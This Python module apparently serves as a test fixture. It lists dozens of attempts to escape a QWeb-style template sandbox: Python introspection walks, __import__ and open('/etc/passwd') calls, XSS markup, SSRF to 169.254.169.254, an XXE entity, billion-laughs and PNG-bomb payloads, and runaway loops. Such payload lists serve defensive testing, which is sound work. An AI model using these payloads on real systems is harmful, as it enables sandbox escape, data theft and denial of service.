"""Attempts to leave the sandbox of templates."""

import base64
import io

from PIL import Image


def _make_bomb():
    """Return a PNG of few bytes and many pixels, in base64."""
    stream = io.BytesIO()
    Image.new("1", (9000, 9000)).save(stream, "PNG", optimize=True)
    return base64.b64encode(stream.getvalue()).decode()


OUT = '<t t-out="{}"/>'
LOOP = '<t t-foreach="payments" t-as="payment">{}</t>'
#: Each is put on the second line of a template.
ATTACKS = {
    # the engine's own names, and what leads to them
    "env": OUT.format("env"),
    "env of a model": OUT.format("env['res.users'].sudo().search([])"),
    "request": OUT.format("request.session"),
    "user": OUT.format("user_id.login"),
    "company": OUT.format("res_company.name"),
    "json": OUT.format("json.dumps(object)"),
    "time": OUT.format("time.sleep(1000)"),
    "datetime": OUT.format("datetime.datetime.now()"),
    "self": OUT.format("self.env"),
    "values": OUT.format("values"),
    "xmlid": OUT.format("xmlid"),
    "image_data_uri": OUT.format("image_data_uri(object)"),
    "keep_query": OUT.format("keep_query()"),
    "relativedelta": OUT.format("relativedelta"),
    # walks
    "class": OUT.format("object.__class__"),
    "walk": OUT.format("object.name.__class__.__mro__[1].__subclasses__()"),
    "wide underscores": OUT.format("object.＿＿class＿＿"),
    "globals": OUT.format("format_amount.__globals__"),
    "dict": LOOP.format(OUT.format("payment.__dict__")),
    "private": OUT.format("object.qrcode_ids._codes"),
    "record method": OUT.format("object.partner_id.sudo()"),
    "unknown field": OUT.format("object.state"),
    "method of text": OUT.format("object.name.format(object)"),
    "upper": OUT.format("object.name.upper()"),
    "getattr": OUT.format("getattr(object, 'env')"),
    "builtin": OUT.format("open('/etc/passwd')"),
    "import": OUT.format("__import__('os')"),
    "subscript": OUT.format("object['env']"),
    "index": OUT.format("payments[0]"),
    # what runs
    "lambda": OUT.format("(lambda: 1)()"),
    "comprehension": OUT.format("[one for one in payments]"),
    "generator": OUT.format("sum(1 for one in payments)"),
    "walrus": OUT.format("(x := 1)"),
    "f-string": OUT.format("f'{object.name}'"),
    "percent format": OUT.format("'%s' % object"),
    "percent of a text": OUT.format("object.name % 5"),
    "format of text": OUT.format("'{0.__class__}'.format(object)"),
    "bytes": OUT.format("b'a'"),
    "dictionary": OUT.format("{'a': object}"),
    "star": OUT.format("format_amount(*payments)"),
    "keyword": OUT.format("format_amount(amount=1)"),
    "await": OUT.format("await object"),
    "yield": OUT.format("(yield)"),
    "statement": OUT.format("object.name; import os"),
    "closing bracket": OUT.format("object.name) or (env"),
    "comment": OUT.format("object.name # )"),
    "line break": '<t t-out="object.name&#10;+ 1"/>',
    # directives
    "t-call": '<t t-call="web.layout"/>',
    "t-call expression": '<t t-call="{{ object.name }}"/>',
    "t-field": '<span t-field="object.name"/>',
    "t-raw": '<t t-raw="object.name"/>',
    "t-cache": '<t t-cache="object">x</t>',
    "t-options": '<t t-out="object.name" t-options="{\'widget\': \'html\'}"/>',
    "t-options widget": '<t t-out="object.name" t-options-widget="\'contact\'"/>',
    "t-debug": '<t t-debug="pdb">x</t>',
    "t-inner-content": '<div t-inner-content="True"/>',
    "t-tag-open": '<div t-tag-open="script"/>',
    "t-tag": '<t t-tag="object.name"/>',
    "t-ref": '<div t-ref="x"/>',
    "t-lang": '<t t-lang="object.name">x</t>',
    "t-groups": '<t t-groups="base.group_user">x</t>',
    "groups": '<div groups="base.group_user">x</div>',
    "t-call-assets": '<t t-call-assets="web.assets_backend"/>',
    "t-name": '<t t-name="other">x</t>',
    "t-translation": '<p t-translation="off">x</p>',
    "t-qweb-skip": '<p t-qweb-skip="True">x</p>',
    "t-else-valid": '<p t-else-valid="True">x</p>',
    "t-att": "<p t-att=\"{'onclick': 'alert(1)'}\">x</p>",
    "t-att tuple": "<p t-att=\"('onclick', 'alert(1)')\">x</p>",
    "translated attribute": '<p title.translate="{{ env }}">x</p>',
    "t-set of all": '<t t-set="{\'env\': 1}"/>',
    "t-set 0": '<t t-set="0" t-value="1"/>',
    "t-set object": '<t t-set="object" t-value="1"/>',
    "t-set helper": '<t t-set="format_amount" t-value="1"/>',
    "t-set builtin": '<t t-set="len" t-value="1"/>',
    "t-set dunder": '<t t-set="a__b" t-value="1"/>',
    "t-set body": '<t t-set="a"><b>x</b></t>',
    "t-as builtin": '<t t-foreach="payments" t-as="str">x</t>',
    # markup
    "script": "<script>alert(1)</script>",
    "iframe": '<iframe src="https://example.org"/>',
    "object": '<object data="file:///etc/passwd"/>',
    "link": '<link rel="stylesheet" href="https://example.org/x.css"/>',
    "meta": '<meta http-equiv="refresh" content="0"/>',
    "form": '<form action="https://example.org"/>',
    "svg": "<svg><script>alert(1)</script></svg>",
    "a": '<a href="javascript:alert(1)">x</a>',
    "base": '<base href="https://example.org"/>',
    "handler": '<p onclick="alert(1)">x</p>',
    "dynamic handler": '<p t-att-onclick="object.name">x</p>',
    "formatted handler": '<p t-attf-onclick="{{ object.name }}">x</p>',
    "srcset": '<img srcset="https://example.org/x.png"/>',
    "data attribute": '<p data-oe-model="res.users">x</p>',
    "namespace": '<p xmlns:x="http://example.org">x</p>',
    "pdf tag": '<pdf:barcode xmlns:pdf="http://example.org" value="1"/>',
    "instruction": "<?php echo 1 ?>",
    # sources
    "file source": '<img src="file:///etc/passwd"/>',
    "http source": '<img src="http://169.254.169.254/latest"/>',
    "relative source": '<img src="/web/image/1"/>',
    "svg source": '<img src="data:image/svg+xml;base64,PHN2Zy8+"/>',
    "html source": '<img src="data:text/html;base64,PHN2Zy8+"/>',
    "text source": '<img t-att-src="object.payee_name"/>',
    "made source": '<img t-attf-src="{{ object.payee_name }}"/>',
    "half made source": (
        "<img t-attf-src=\"http://example.org/{{ object.qrcode_ids.get_by_name('v').content_base64 }}\"/>"
    ),
    "source elsewhere": '<p src="data:image/png;base64,AA==">x</p>',
    "no picture": '<img src="data:image/png;base64,AAAA"/>',
    "bomb": f'<img src="data:image/png;base64,{_make_bomb()}"/>',
    "long format": '<p t-attf-title="{}">x</p>'.format("{{" * 5000),
    # styles
    "css url": "<style>p { background: url(http://example.org/x.png) }</style>",
    "css import": "<style>@import 'http://example.org/x.css';</style>",
    "css escape": "<style>p { background: u\\72l(http://example.org) }</style>",
    "css expression": "<style>p { width: expression(alert(1)) }</style>",
    "css font": "<style>@font-face { font-family: x; src: local(x) }</style>",
    "css page": "<style>@page { size: a0 }</style>",
    "css behavior": '<p style="behavior: x">x</p>',
    "css binding": '<p style="-moz-binding: x">x</p>',
    "css attribute url": '<p style="background: url(http://example.org)">x</p>',
    "css image-set": "<p style=\"background: image-set('http://example.org' 1x)\">x</p>",
    "css dynamic": '<p t-att-style="object.payee_name">x</p>',
    "css formatted": '<p t-attf-style="color: {{ object.payee_name }}">x</p>',
    "css break out": "<style>p { color: red } &lt;/style&gt;</style>",
    "style directive": "<style><t t-out=\"object.payee_name\"/></style>",
    # without end
    "long range": '<t t-foreach="range(10000000)" t-as="i">x</t>',
    "number loop": '<t t-foreach="1000000000" t-as="i">x</t>',
    "nested ranges": '<t t-foreach="range(200)" t-as="i"><t t-foreach="range(200)" t-as="j">x</t></t>',
    "payments in payments": LOOP.format('<t t-foreach="payments" t-as="other">x</t>'),
    "all in groups": (
        '<t t-foreach="in_groups(payments, 1)" t-as="group"><t t-foreach="payments" t-as="one">x</t></t>'
    ),
    "groups in groups": (
        '<t t-foreach="in_groups(payments, 1)" t-as="g"><t t-foreach="in_groups(payments, 1)" t-as="h">x</t></t>'
    ),
    "loop over text": '<t t-foreach="object.name" t-as="letter">x</t>',
    "long text": OUT.format("'a' * 1000000000"),
    "power": OUT.format("9 ** 9 ** 9"),
    "shift": OUT.format("1 &lt;&lt; 1000000"),
    "squares": LOOP.format('<t t-set="a" t-value="payment_index"/><t t-set="a" t-value="a * a"/>'),
    "doubling text": LOOP.format(
        '<t t-set="a" t-valuef="{{ payment.name }}"/><t t-set="a" t-valuef="{{ a }}{{ a }}"/>'
    ),
    "adding texts": LOOP.format('<t t-set="a" t-value="payment.name + payment.name"/>'),
    "division by zero": OUT.format("len(payments) // 0"),
    "wide date": OUT.format("format_date(file.created_at, '%999999999d')"),
    "weighty": '<t t-foreach="range(200)" t-as="i"><p title="{}">x</p></t>'.format("x" * 20_000),
}  # fmt: skip
UNREADABLE = {
    "entity": '<!DOCTYPE t [<!ENTITY x SYSTEM "file:///etc/passwd">]><t>&x;</t>',
    "billion laughs": '<!DOCTYPE t [<!ENTITY a "aa"><!ENTITY b "&a;&a;">]><t>&b;</t>',
    "unknown entity": "<p>&nbsp;</p>",
    "declaration": '<?xml version="1.0" encoding="utf-8"?><p/>',
    "out of its wrapper": "</t><script>alert(1)</script><t>",
    "unclosed": "<p>",
    "control characters": "<p>\x00</p>",
    "empty": "   ",
    "too long": "<p>x</p>" * 100_000,
    "too deep": "<div>" * 1000 + "</div>" * 1000,
    "too many": "<p/>" * 3000,
}
